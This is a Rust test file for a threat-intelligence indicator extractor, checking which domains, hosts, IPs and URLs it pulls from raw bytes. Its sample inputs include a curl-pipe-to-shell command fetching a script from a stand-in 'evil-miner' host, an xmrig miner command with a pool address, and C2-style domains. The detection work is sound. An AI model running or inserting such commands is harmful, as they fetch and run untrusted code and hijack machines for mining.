//! What the extractor finds, and what it must not (table tests, trufflehog-style).

use hubcensus_intel::{ExtractLimits, IndicatorExtractor, IndicatorSet};
use hubcensus_types::IndicatorKind;

use crate::found;

#[test]
fn positives() {
    let cases: &[(&[u8], &[&str])] = &[
        (
            b"curl -fsSL http://dl.evil-miner.xyz/x.sh | sh",
            &["domain=evil-miner.xyz", "host=dl.evil-miner.xyz", "url=http://dl.evil-miner.xyz/x.sh"],
        ),
        (
            b"./xmrig -o stratum+tcp://xmr.pool-host.net:3333 -u 4abc",
            &["domain=pool-host.net", "host=xmr.pool-host.net", "url=stratum+tcp://xmr.pool-host.net:3333"],
        ),
        (b"WSS://Pool.Top:443/ws\n", &["domain=pool.top", "url=wss://pool.top:443/ws"]),
        // userinfo is a credential: never kept
        (
            b"ALL_PROXY=socks5://bob:s3cret@10.20.30.40:1080 ",
            &["ip=10.20.30.40", "url=socks5://10.20.30.40:1080"],
        ),
        (b"\"http://[2001:DB8::1]:8080/x\"", &["ip=2001:db8::1", "url=http://[2001:db8::1]:8080/x"]),
        (b"\x00pool.minexmr.com\x00", &["domain=minexmr.com", "host=pool.minexmr.com"]),
        (b"connect 45.9.148.3:3333 now", &["ip=45.9.148.3"]),
        (b"See EVIL.COM.", &["domain=evil.com"]),
        (b"xn--80ak6aa92e.xn--p1ai\n", &["domain=xn--80ak6aa92e.xn--p1ai"]),
        (
            br#""url": "gulf.moneroocean.stream:10128","#,
            &["domain=moneroocean.stream", "host=gulf.moneroocean.stream"],
        ),
        (b"ping shop.evil.co.uk", &["domain=evil.co.uk", "host=shop.evil.co.uk"]),
        (b"name.surname@corp-mail.com", &["domain=corp-mail.com"]),
        (b"x.duckdns.org", &["domain=duckdns.org", "host=x.duckdns.org"]),
        // Go binaries pack strings without separators
        (
            b"invalid argumenthttps://proxy.golang.org/",
            &["domain=golang.org", "host=proxy.golang.org", "url=https://proxy.golang.org/"],
        ),
        // a file-extension TLD is still a host inside a URL
        (b"https://sh.rustup.rs", &["domain=rustup.rs", "host=sh.rustup.rs", "url=https://sh.rustup.rs"]),
    ];
    for (input, want) in cases {
        assert_eq!(found(input), *want, "input {:?}", String::from_utf8_lossy(input));
    }
}

#[test]
fn near_misses_yield_nothing() {
    let cases: &[&[u8]] = &[
        b"libssl.so.3",
        b"libc.so.6",
        b"/usr/lib/x86_64-linux-gnu/libz.so",
        b"README.md",
        b"setup.py",
        b"index.html",
        b"config.h.in",
        b"v1.2.3.4",
        b"version 1.2.3.4",
        b"Version: 10.2.4.1",
        b"foo.baz",
        b"a.b",
        b"my_host.evil.com",
        b"%s.evil.com",
        b"$HOST.evil.com",
        b"self.name = 1",
        b"logger.info(msg)",
        b"os.getPid()",
        b"env.CI",
        b"Temporal.Duration.compare",
        b"com.acme.android.app",
        b"Array.prototype.map",
        b"i32.ne f64x2.lt",
        b"entry.name; user.email gc.auto multi-user.target",
        b"127.0.0.1 0.0.0.0 255.255.255.255 127.8.9.10",
        b"2.5.29.17 1.3.101.110 1.2.840.113549",
        b"http://localhost:8080/ http://%s/ tcp://redis:6379 http://example.com/x",
        b"4.lu a.id",
        b"1.2.3.4.5",
        b"010.001.002.003",
    ];
    for input in cases {
        assert_eq!(found(input), Vec::<String>::new(), "input {:?}", String::from_utf8_lossy(input));
    }
}

#[test]
fn names_split_by_binary_noise_are_not_rejoined() {
    for input in [&b"\x7fELF\x02example-c2.c\x00om\x01"[..], b"exa\x00mple-c2.com", b"example-c2\xff.com"] {
        let got = found(input);
        assert!(!got.iter().any(|s| s.contains("example-c2.com")), "{got:?} from {input:?}");
    }
    // ...but a name between binary bytes is found
    assert_eq!(found(b"\x01\x02\x13evil-c2.com\xff\xfe"), ["domain=evil-c2.com"]);
}

#[test]
fn first_path_is_remembered_across_files() {
    let x = IndicatorExtractor::new(ExtractLimits::default());
    let mut set = x.new_set();
    x.extract("etc/a.conf", b"pool=xmr.evil-pool.com", &mut set);
    x.extract("etc/b.conf", b"pool=xmr.evil-pool.com other.evil-pool.com", &mut set);
    let v = set.into_vec();
    let path_of = |value: &str| v.iter().find(|(i, _)| i.value == value).map(|(_, p)| p.as_str());
    assert_eq!(path_of("evil-pool.com"), Some("etc/a.conf"));
    assert_eq!(path_of("xmr.evil-pool.com"), Some("etc/a.conf"));
    assert_eq!(path_of("other.evil-pool.com"), Some("etc/b.conf"));
    assert_eq!(v.len(), 3);
}

#[test]
fn hosts_lists_distinct_hosts_and_domains() {
    let x = IndicatorExtractor::new(ExtractLimits::default());
    let mut set = IndicatorSet::default();
    x.extract("p", b"http://a.evil.com/ b.evil.com 81.2.33.44", &mut set);
    let mut hosts: Vec<&str> = set.hosts().collect();
    hosts.sort_unstable();
    assert_eq!(hosts, ["a.evil.com", "b.evil.com", "evil.com"]);
    assert!(set.contains(IndicatorKind::Ip, "81.2.33.44"));
}

#[test]
fn long_urls_keep_their_host_only() {
    let x = IndicatorExtractor::new(ExtractLimits { max_url_len: 64, ..ExtractLimits::default() });
    let mut set = IndicatorSet::default();
    let url = format!("http://c2.evil.com/{}", "a".repeat(100));
    x.extract("p", url.as_bytes(), &mut set);
    let got: Vec<String> =
        set.into_vec().into_iter().map(|(i, _)| format!("{}={}", i.kind, i.value)).collect();
    assert_eq!(got, ["domain=evil.com", "host=c2.evil.com"]);
}

#[test]
fn extraction_is_deterministic_whatever_the_split_into_files() {
    let data = b"x http://a.evil-one.com/p y\x00b.evil-two.net\x0045.9.148.3 z";
    let whole = found(data);
    let x = IndicatorExtractor::new(ExtractLimits::default());
    let mut set = IndicatorSet::default();
    // split at whitespace/NUL boundaries: the same indicators come out
    for part in data.split(|b| *b == b' ') {
        x.extract("p", part, &mut set);
    }
    let parts: Vec<String> =
        set.into_vec().into_iter().map(|(i, _)| format!("{}={}", i.kind, i.value)).collect();
    assert_eq!(whole, parts);
    assert_eq!(whole.len(), 6, "{whole:?}");
}
